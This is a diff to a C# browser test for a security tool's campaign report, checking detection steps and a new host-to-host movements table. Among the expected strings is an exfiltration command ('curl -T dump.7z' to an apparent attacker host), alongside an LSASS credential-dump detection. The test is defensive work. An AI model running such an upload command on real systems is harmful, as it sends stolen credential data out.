@@ -161,7 +161,9 @@ public class CampaignRenderingTests(ChromiumFixture chromium)
         string text = (await Q($"{c1}.textContent")).GetString()!;
         foreach (var s in new[] { "203.0.113.9", "10.10.20.23", "T1003.001", "50.0 MB", intrusion.Summary, "curl -T dump.7z " + Pwn, "score 92" })
             Assert.Contains(s, text);
-        Assert.Equal(5, (await Q($"{c1}.querySelectorAll('.steps tr.step').length")).GetInt32());
+        Assert.Equal(5, (await Q($"{c1}.querySelectorAll('.steps:not(.movements) tr.step').length")).GetInt32());
+        // Every movement is listed under the graph, each with its detection.
+        Assert.Equal(3, (await Q($"{c1}.querySelectorAll('.movements tr.step').length")).GetInt32());
 
         // The second campaign: no movement, said so.
         Assert.Contains("no host-to-host movement", (await Q("document.querySelectorAll('.campaign')[1].textContent")).GetString());
@@ -170,7 +172,7 @@ public class CampaignRenderingTests(ChromiumFixture chromium)
         await File.WriteAllBytesAsync(Path.Combine(AppContext.BaseDirectory, "report-screenshots", "campaigns.png"), await page.ScreenshotAsync(1600));
 
         // A step opens its detection; the campaign button filters the table to its detections.
-        await Q($"{c1}.querySelectorAll('.steps tr.step')[1].click()");
+        await Q($"{c1}.querySelectorAll('.steps:not(.movements) tr.step')[1].click()");
         Assert.StartsWith("Detection 2: LSASS dump", (await Q("document.querySelector('#detail h3').textContent")).GetString());
         Assert.Equal(6, (await Q("window.__vigil.shown")).GetInt32());
         await Q("document.querySelectorAll('.campaign')[1].querySelector('button').click()");
